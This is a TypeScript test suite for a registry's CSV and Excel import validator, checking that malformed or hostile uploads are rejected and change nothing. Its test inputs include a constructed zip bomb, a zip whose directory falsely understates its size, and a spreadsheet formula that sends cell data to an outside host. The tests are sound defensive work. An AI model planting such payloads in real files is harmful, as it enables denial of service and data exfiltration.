import { unzipSync, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { organisationHead, teamHead, teamRows } from '../../infra/local/demo/register.ts'
import { ok } from '../support/contest.ts'
import type { Somebody, TestPlatform } from '../support/platform.ts'
import { csvOf, district, filed, gb18030, nextCode, type Register, registered, type Rows, startRegistry, workbook, xlsxOf } from '../support/registry.ts'

let platform: TestPlatform
let administrator: Somebody
let register: Register
beforeAll(async () => { ({ platform, administrator, register } = await startRegistry()) })
afterAll(async () => { await platform.close() })

describe('a file that is no list', () => {
  const good = registered('不会进来的组织', '52330411MJ9900020C')
  const bomb = () => Buffer.from(zipSync({ '[Content_Types].xml': new Uint8Array(), 'xl/workbook.xml': new Uint8Array(30 * 1024 * 1024) }))
  /** Its directory says that it is small. */
  function liar(): Buffer {
    const bytes = bomb()
    for (let place = bytes.indexOf(Buffer.from([0x50, 0x4b, 1, 2])); place !== -1; place = bytes.indexOf(Buffer.from([0x50, 0x4b, 1, 2]), place + 4)) if (bytes.readUInt32LE(place + 24) > 0) bytes.writeUInt32LE(1000, place + 24)
    return bytes
  }
  const broken = () => Buffer.concat([csvOf([organisationHead, good, good]), Buffer.from('\r\n'), Buffer.from([0xff, 0xff, 0x41]), Buffer.from('\r\n好\r\n')])
  const bad: [name: string, make: () => Buffer | Promise<Buffer>, code: string, says: string | RegExp][] = [
    ['empty', () => Buffer.from('\uFEFF'), 'NO_ROWS', /一行也没有/],
    ['only headings', () => csvOf([organisationHead]), 'NO_ROWS', /表头下面一行也没有/],
    ['wrong columns', () => csvOf([['单位', '地址'], ['a', 'b']]), 'COLUMN_UNKNOWN', /单位/],
    ['a missing column', () => csvOf([['名称', '登记或备案'], ['a', '登记']]), 'COLUMN_MISSING', /街道/],
    ['bytes in no encoding, by line', broken, 'ENCODING', /第 4 行/],
    ['UTF-16', () => Buffer.from('\uFEFF名称,街道', 'utf16le'), 'ENCODING', /UTF-16/],
    ['quotes that do not pair up', () => Buffer.from('名称,登记或备案,街道\r\n"甲,登记,乙\r\n丙,登记,丁\r\n'), 'CSV_MALFORMED', /引号/],
    ['an old .xls', () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'FILE_OLD', /\.xls/],
    ['a picture', () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13]), 'NOT_A_LIST', /不是表格/],
    ['another zip', () => Buffer.from(zipSync({ 'a.txt': new Uint8Array(10) })), 'NOT_A_LIST', /\.xlsx/],
    ['half a workbook', async () => (await xlsxOf([organisationHead, good])).subarray(0, 3000), 'FILE_BROKEN', /打不开/],
    ['a zip bomb', bomb, 'ZIP_TOO_LARGE', /解开以后/],
    ['a zip bomb that lies', liar, 'ZIP_TOO_LARGE', /解开以后/],
    ['a formula that calls out', () => workbook((sheet) => { sheet.addRows([organisationHead, good]); sheet.getCell('B2').value = { formula: 'WEBSERVICE("http://example.cn/"&A2)', result: 1 } }), 'CELLS_FORMULA', /B2/],
    ['merged cells', () => workbook((sheet) => { sheet.addRows([organisationHead, good, good]); sheet.mergeCells('A2:A3'); sheet.mergeCells('C2:D3') }), 'CELLS_MERGED', /A2:A3、C2:D3/],
    ['a cell in error', () => workbook((sheet) => { sheet.addRows([organisationHead, good]); sheet.getCell('C2').value = { error: '#REF!' } }), 'CELLS_ERROR', /C2/],
    ['links to other files', async () => Buffer.from(zipSync({ ...unzipSync(new Uint8Array(await xlsxOf([organisationHead, good]))), 'xl/externalLinks/externalLink1.xml': Buffer.from('<externalLink/>') })), 'LINKS_OUTSIDE', /外部链接/],
    ['headings below a title', () => workbook((sheet) => { sheet.getRow(3).values = organisationHead; sheet.getRow(4).values = good }), 'HEAD_NOT_FIRST', /第 3 行/],
  ]

  test.each(bad)('%s is told so, and changes nothing', async (_name, make, code, says) => {
    const before = await register.list('organisations')
    const answer = await register.read('organisations', await make())
    expect(answer.status).toBe(422)
    const mistake = answer.body.errors.find((one: { code: string }) => one.code === code)
    expect(mistake?.detail, JSON.stringify(answer.body)).toMatch(says)
    expect(await register.list('organisations')).toEqual(before)
  })

  test('50,000 rows are told in a moment, as CSV and as a workbook', async () => {
    const rows: Rows = [teamHead, ...teamRows(50_000)]
    // As a spreadsheet would write it; the library that writes ours takes its time for so many.
    const parts = unzipSync(new Uint8Array(await xlsxOf(rows.slice(0, 3))))
    const sheet = Buffer.from(parts['xl/worksheets/sheet1.xml'] ?? []).toString()
    const row = /<row r="2".*?<\/row>/s.exec(sheet)?.[0] ?? ''
    const long = Array.from({ length: 50_000 }, (_, n) => row.replaceAll(/r="([A-Z]*)2"/g, (_, column: string) => `r="${column}${n + 2}"`)).join('')
    const workbook = zipSync({ ...parts, 'xl/worksheets/sheet1.xml': Buffer.from(sheet.replace(/<row r="2".*<\/row>/s, long)) })
    for (const bytes of [csvOf(rows), Buffer.from(workbook)]) {
      const from = performance.now()
      const { status, body } = await register.uploaded('teams', bytes)
      expect({ status, code: body.errors?.[0]?.code }).toEqual({ status: 422, code: 'TOO_MANY_ROWS' })
      expect(performance.now() - from).toBeLessThan(10_000)
    }
  })

  test('one that is too large is told before it is sent', async () => {
    expect((await administrator.api('POST', `${district}/imports/uploads`, { register: 'teams', name: '名单.xlsx', bytes: 21 * 1024 * 1024 })).body.errors).toMatchObject([{ code: 'FILE_TOO_LARGE', detail: expect.stringContaining('20 MB') }])
  })
})

describe('rows that are wrong', () => {
  const rows: [row: string[], column: string, code: string][] = [
    [registered('甲', '52330411MJ990002OC'), 'creditCode', 'CREDIT_CODE_CHARACTER'],
    [registered('乙', '52330411MJ9900020D'), 'creditCode', 'CREDIT_CODE_CHECK'],
    [registered('丙', '5.2330411E+17'), 'creditCode', 'NUMBER_AS_FIGURE'],
    [registered('丁', ''), 'creditCode', 'REQUIRED'],
    [registered('', '52330411MJ9900020C'), 'name', 'REQUIRED'],
    [registered('戊', nextCode(), { 评估等级: '6A' }), 'grade', 'NOT_A_CHOICE'],
    [registered('己', nextCode(), { 评估等级: '3A', 等级开始日期: '2024-02-30', 等级到期日期: '2028-12-31' }), 'gradeFrom', 'DATE_MALFORMED'],
    [registered('庚', nextCode(), { 评估等级: '3A', 等级开始日期: '2024-01-01', 等级到期日期: '2023-12-31' }), 'gradeTo', 'ENDS_BEFORE'],
    [registered('辛', nextCode(), { 类别: '没有的类' }), 'class', 'CLASS_UNKNOWN'],
    [filed('壬', { 挂靠单位: '' }), 'hostName', 'REQUIRED'],
    [filed('癸', { 统一社会信用代码: '52330411MJ9900020C' }), 'creditCode', 'NO_CODE_OF_ITS_OWN'],
  ]

  test('are each listed with every problem, first; nothing can be applied', async () => {
    const twice = registered('同一个', '51330411MJ9900012L')
    const { id } = ok(await register.read('organisations', csvOf([organisationHead, ...rows.map(([row]) => row), twice, registered('又一个', '51330411mj9900012l'), registered('好的', nextCode())]), '名单.csv'))
    const plan = await register.preview(id)
    expect(plan.counts).toEqual({ wrong: rows.length + 1, new: 2, changed: 0, same: 0 })
    for (const [n, [, column, code]] of rows.entries()) expect(plan.rows.find(({ line }: { line: number }) => line === n + 2)?.faults, `row ${n + 2}`).toMatchObject([{ column, code }])
    expect(plan.rows.find(({ line }: { line: number }) => line === rows.length + 3).faults).toMatchObject([{ code: 'ROW_TWICE', zh: expect.stringContaining(`第 ${rows.length + 2} 行`) }])
    expect(plan.rows.slice(0, rows.length + 1).every(({ state }: { state: string }) => state === 'wrong')).toBe(true)
    const before = await register.all('organisations')
    expect((await register.apply(id)).body.code).toBe('IMPORT_NOT_READY')
    expect(await register.all('organisations')).toEqual(before)
  })

  test('a registered kind that does not agree with the code is named; so is a code that is of another register', async () => {
    const head = ['名称', '登记或备案', '统一社会信用代码', '登记类型', '街道']
    const { id } = ok(await register.read('organisations', csvOf([head, ['子', '登记', '52330411MJ9900020C', '社会团体', '示例街道甲'], ['丑', '登记', nextCode(), '民办非企业单位', '示例街道甲']]), '名单.csv'))
    expect((await register.preview(id)).rows.map(({ faults }: { faults: { code: string }[] }) => faults.map(({ code }) => code))).toEqual([['CREDIT_CODE_KIND'], []])
    const code = nextCode()
    await register.imported('organisations', csvOf([organisationHead, registered('一家社会组织', code)]))
    const teams = ok(await register.read('teams', csvOf([['队伍名称', '登记或备案', '统一社会信用代码', '街道'], ['一支队伍', '登记', code, '示例街道甲']]), '队伍.csv'))
    expect((await register.preview(teams.id)).rows).toMatchObject([{ state: 'wrong', faults: [{ code: 'OTHER_REGISTER', zh: expect.stringContaining('一家社会组织') }] }])
  })
})

test('a good file is read alike in UTF-8 with and without its mark, in GB18030, and as a workbook with days as days', async () => {
  const row = registered('编码相同的组织', nextCode(), { 评估等级: '4A', 等级开始日期: '2025-01-01', 等级到期日期: '2029-12-31', 联系人: '张“三”' })
  const text = csvOf([organisationHead, row])
  const gb = gb18030(text.toString())
  expect(gb.equals(text)).toBe(false)
  const days = row.map((cell) => (/^\d{4}-\d\d-\d\d$/.test(cell) ? new Date(`${cell}T00:00:00Z`) : cell))
  const found = []
  for (const bytes of [text, Buffer.concat([Buffer.from('\uFEFF'), text]), gb, await xlsxOf([organisationHead, row]), await xlsxOf([organisationHead, days])]) {
    const plan = await register.preview(ok(await register.read('organisations', bytes)).id)
    found.push(plan.rows.map(({ name, state, changes }: { name: string; state: string; changes: unknown }) => ({ name, state, changes })))
  }
  expect(found[0]).toMatchObject([{ name: '编码相同的组织', state: 'new' }])
  for (const other of found) expect(other).toEqual(found[0])
})
